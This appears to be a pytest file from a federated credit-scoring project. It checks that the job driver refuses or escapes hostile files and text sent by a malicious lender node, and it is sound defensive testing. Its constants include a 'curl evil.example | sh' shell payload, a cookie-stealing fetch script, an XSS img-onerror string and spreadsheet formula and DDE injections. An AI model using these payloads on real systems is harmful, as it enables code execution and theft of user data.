"""Attacks on the files the driver writes into ``--out`` (security review F7 and F20).

Real in-process nodes (``build_node``, mutual TLS, 1024-bit keys) and a real ``Driver`` run a
whole job: alignment, federated binning, training, evaluation. The lender node carries a server
interceptor that rewrites its ``Evaluate`` reply: it is a lender that deviates from the code
(the attacker), not a stand-in for it. The ecommerce partner's data names two of its columns
with a spreadsheet formula and with HTML, which reach the driver's IV report through binning.
"""

from __future__ import annotations

import base64
import csv
import html
import io
import json
from collections.abc import Callable, Iterator
from dataclasses import dataclass
from pathlib import Path
from typing import Any

import grpc
import pytest

from fedcredit.cli.demo import write_demo_federation
from fedcredit.config import Federation, load_federation
from fedcredit.data.synthetic import write_institutions
from fedcredit.driver.job import Driver
from fedcredit.errors import ProtocolError
from fedcredit.node.transport.identity import ServerInterceptorBase
from fedcredit.proto.v1 import logistic_pb2
from fedcredit.protocol.binning import REPORT_FIELDS, report_csv
from tests.support.federation import NODES, start_nodes
from tests.support.report import Page, broken_references, unexpected_markup

PLOTS = ("roc.png", "ks.png", "scores.png")
EVALUATION_FILES = {*PLOTS, "report.html"}
PNG_MAGIC = b"\x89PNG\r\n\x1a\n"
EVIL = b"#!/bin/sh\n# fedcredit-attack-marker\ncurl http://evil.example/x | sh\n"
FORMULA = '=HYPERLINK("http://evil.example/","open me")'
MARKUP = "<img src=x onerror=alert(document.domain)>"
SCRIPT = b"<html><body><script>fetch('http://evil.example/?c='+document.cookie)</script>"
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")

Tamper = Callable[[logistic_pb2.EvaluateReply], None]


class EvilLender(ServerInterceptorBase):
    """On the lender node: hands the driver a rewritten copy of the real ``Evaluate`` reply."""

    def __init__(self) -> None:
        self.tamper: Tamper | None = None

    def intercept_service(
        self,
        continuation: Callable[[grpc.HandlerCallDetails], grpc.RpcMethodHandler[Any, Any] | None],
        handler_call_details: grpc.HandlerCallDetails,
    ) -> grpc.RpcMethodHandler[Any, Any] | None:
        handler: Any = continuation(handler_call_details)
        if handler is None or not handler_call_details.method.endswith("/Evaluate"):
            return handler  # type: ignore[no-any-return]
        behaviour = handler.unary_unary

        def run(request: Any, context: grpc.ServicerContext) -> Any:
            reply = logistic_pb2.EvaluateReply()
            reply.CopyFrom(behaviour(request, context))
            if self.tamper is not None:
                self.tamper(reply)
            return reply

        return grpc.unary_unary_rpc_method_handler(
            run,
            request_deserializer=handler.request_deserializer,
            response_serializer=handler.response_serializer,
        )


@dataclass
class Nodes:
    fed: Federation
    home: Path
    addresses: dict[str, str]
    credentials: grpc.ChannelCredentials
    lender: EvilLender

    def run(self, out: Path) -> dict[str, Any]:
        """A whole job by a fresh driver, writing into ``out`` (inside the nodes' home)."""
        driver = Driver(
            self.fed,
            self.addresses,
            credentials=self.credentials,
            progress=lambda *_: None,
            state_dirs={p.name: str(self.home / "state" / p.name) for p in self.fed.parties},
        )
        try:
            return driver.run(out)
        finally:
            driver.peers.close()


def _name_columns(path: Path, names: dict[int, str]) -> None:
    """Rename columns of a partner's CSV (by index) as its owner may: any header text."""
    rows = list(csv.reader(path.open(newline="", encoding="utf-8")))
    for index, name in names.items():
        rows[0][index] = name
    with path.open("w", newline="", encoding="utf-8") as handle:
        csv.writer(handle).writerows(rows)


@pytest.fixture(scope="module")
def federation(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Nodes]:
    home = tmp_path_factory.mktemp("files")
    data = write_institutions(home / "data", 400, seed=3)
    _name_columns(data["ecommerce"], {1: FORMULA, 2: MARKUP})
    path = write_demo_federation(home, data, key_bits=1024, epochs=1)
    path.write_text(path.read_text().replace("batch_size = 4096", "batch_size = 64"))
    fed = load_federation(path, allow_small_keys=True)
    lender = EvilLender()
    started = start_nodes(fed, home, names=NODES, interceptors={"lender": [lender]})
    try:
        yield Nodes(fed, home, started.addresses, started.credentials("coordinator"), lender)
    finally:
        started.close()


@pytest.fixture()
def nodes(federation: Nodes) -> Iterator[Nodes]:
    federation.lender.tamper = None
    yield federation
    federation.lender.tamper = None


@pytest.fixture()
def out(nodes: Nodes, tmp_path: Path) -> Path:
    """A fresh output folder, two levels below this test's own folder of the nodes' home."""
    return nodes.home / "runs" / tmp_path.name / "job" / "run"


def adding(name: str, data: bytes) -> Tamper:
    def tamper(reply: logistic_pb2.EvaluateReply) -> None:
        reply.files[name] = data

    return tamper


def files_holding(marker: bytes, *roots: Path) -> list[Path]:
    return [
        p for root in roots for p in root.rglob("*") if p.is_file() and marker in p.read_bytes()
    ]


def leftovers(out: Path) -> list[str]:
    """Evaluation files or temporary files the driver left in ``out``."""
    return sorted(
        p.name for p in out.iterdir() if p.name in EVALUATION_FILES or p.name.startswith(".")
    )


# -- F7: file names --------------------------------------------------------------------------
ESCAPES = {
    "parent folders": "../../evil.sh",
    "absolute path": "{absolute}",
    "into the model folder": "model/manifest.json",
    "an unexpected name": "notes.html",
    "an expected name in a sub-folder": "model/roc.png",
    "empty name": "",
    "dot dot": "..",
}


@pytest.mark.parametrize("name", ESCAPES.values(), ids=ESCAPES.keys())
def test_a_lender_file_name_outside_the_expected_set_is_refused_and_nothing_is_written(
    nodes: Nodes, out: Path, tmp_path: Path, name: str
) -> None:
    # The attacker aims at a folder that exists (as /etc/cron.d would).
    (tmp_path / "outside").mkdir()
    name = name.format(absolute=str(tmp_path / "outside" / "evil.sh"))
    nodes.lender.tamper = adding(name, EVIL)

    with pytest.raises(ProtocolError) as info:
        nodes.run(out)

    message = str(info.value)
    assert "'lender'" in message and repr(name) in message
    assert files_holding(b"fedcredit-attack-marker", out.parents[1], tmp_path) == []
    assert leftovers(out) == []
    manifest = json.loads((out / "model" / "manifest.json").read_text(encoding="utf-8"))
    assert manifest["lender"] == "lender"


def test_a_huge_plot_is_refused_naming_the_lender_and_the_file(
    nodes: Nodes, out: Path, tmp_path: Path
) -> None:
    nodes.lender.tamper = adding("roc.png", PNG_MAGIC + b"fedcredit-attack-marker" * 1_500_000)

    with pytest.raises(ProtocolError) as info:
        nodes.run(out)

    assert "'lender'" in str(info.value) and "'roc.png'" in str(info.value)
    assert files_holding(b"fedcredit-attack-marker", out.parents[1], tmp_path) == []
    assert leftovers(out) == []


def test_a_plot_that_is_not_a_png_is_refused(nodes: Nodes, out: Path) -> None:
    nodes.lender.tamper = adding("ks.png", SCRIPT)

    with pytest.raises(ProtocolError) as info:
        nodes.run(out)

    assert "'lender'" in str(info.value) and "'ks.png'" in str(info.value)
    assert leftovers(out) == []


def test_the_expected_files_of_an_honest_lender_are_written(nodes: Nodes, out: Path) -> None:
    metrics = nodes.run(out)

    for name in PLOTS:
        assert (out / name).read_bytes().startswith(PNG_MAGIC)
    assert metrics["auc"] > 0.5
    assert sorted(p.name for p in out.iterdir() if p.name.startswith(".")) == []


def test_the_report_of_an_honest_run_resolves_and_shows_the_job(nodes: Nodes, out: Path) -> None:
    metrics = nodes.run(out)

    page = out / "report.html"
    assert broken_references(page) == [] and unexpected_markup(page) == []
    parsed = Page(page.read_text(encoding="utf-8"))
    assert {"metrics.json", "iv.html", "iv.csv", "model/manifest.json"} <= set(
        parsed.values("href")
    )
    text = " ".join(parsed.text)
    assert f"Paillier key size (bits) {nodes.fed.key_bits}" in text
    assert f"rows aligned (common customers) {metrics['rows_aligned']}" in text
    assert len(metrics["gains"]) >= 1 and len(metrics["calibration"]) >= 1
    for name in ("training.png", "calibration.png"):
        assert (out / name).read_bytes().startswith(PNG_MAGIC)


# -- F20: peer-supplied text in the report files -------------------------------------------
def test_a_lender_report_carrying_a_script_does_not_reach_the_operator(
    nodes: Nodes, out: Path
) -> None:
    nodes.lender.tamper = adding("report.html", SCRIPT)

    metrics = nodes.run(out)

    page = (out / "report.html").read_text(encoding="utf-8")
    # (evil.example itself is in the page: a partner column is named with a formula linking
    # it, shown escaped in the IV table; the lender's script is not.)
    assert "<script" not in page.lower() and "document.cookie" not in page
    # Still a useful report: the summary line, the lender's metrics and the accepted plots.
    assert '<tr><th>summary</th><td class="t">AUC ' in page
    assert f"{metrics['auc']:.6g}" in page
    for name in PLOTS:
        encoded = base64.b64encode((out / name).read_bytes()).decode("ascii")
        assert f"data:image/png;base64,{encoded}" in page


def test_markup_in_the_lender_metrics_is_escaped_in_the_report(nodes: Nodes, out: Path) -> None:
    def tamper(reply: logistic_pb2.EvaluateReply) -> None:
        metrics = json.loads(reply.metrics_json)
        metrics[MARKUP] = MARKUP
        reply.metrics_json = json.dumps(metrics)

    nodes.lender.tamper = tamper

    nodes.run(out)

    page = (out / "report.html").read_text(encoding="utf-8")
    assert "<img src=x" not in page
    assert html.escape(MARKUP) in page
    assert unexpected_markup(out / "report.html") == []


def test_a_report_is_still_written_when_the_lender_metrics_cannot_make_a_summary(
    nodes: Nodes, out: Path
) -> None:
    def tamper(reply: logistic_pb2.EvaluateReply) -> None:
        metrics = json.loads(reply.metrics_json)
        metrics["auc"] = MARKUP
        reply.metrics_json = json.dumps(metrics)

    nodes.lender.tamper = tamper

    nodes.run(out)

    page = (out / "report.html").read_text(encoding="utf-8")
    assert "<th>summary</th>" not in page and "<img src=x" not in page
    assert f'<tr><th>auc</th><td class="t">{html.escape(MARKUP)}</td></tr>' in page


def test_a_partner_column_named_as_a_formula_is_defused_in_iv_csv(nodes: Nodes, out: Path) -> None:
    nodes.run(out)

    with open(out / "iv.csv", newline="", encoding="utf-8") as handle:
        rows = list(csv.DictReader(handle))
    assert "'" + FORMULA in [r["column"] for r in rows]
    cells = [r[k] for r in rows for k in REPORT_FIELDS]
    assert not [c for c in cells if c.startswith(FORMULA_STARTS)]


def test_a_partner_column_named_as_markup_is_escaped_in_iv_html(nodes: Nodes, out: Path) -> None:
    nodes.run(out)

    page = (out / "iv.html").read_text(encoding="utf-8")
    assert "<img src=x" not in page
    assert html.escape(MARKUP) in page


@pytest.mark.parametrize("start", FORMULA_STARTS)
def test_every_iv_csv_cell_a_spreadsheet_would_run_is_prefixed(start: str) -> None:
    # The driver reads these rows from the lender's SelectBins reply: any field can be text.
    row = {k: f"{start}cmd|' /C calc'!A0" for k in REPORT_FIELDS}

    text = report_csv([row])

    cells = next(csv.DictReader(io.StringIO(text)))
    assert cells == {k: f"'{start}cmd|' /C calc'!A0" for k in REPORT_FIELDS}


def test_numbers_in_iv_csv_stay_numbers() -> None:
    row = {"party": "lender", "column": "x", "iv": -0.5, "iv_fine": 1.25}
    row |= {"fine_bins": 3, "bins": -2, "kept": True}

    cells = next(csv.DictReader(io.StringIO(report_csv([row]))))

    assert (cells["iv"], cells["bins"], cells["kept"]) == ("-0.5", "-2", "True")
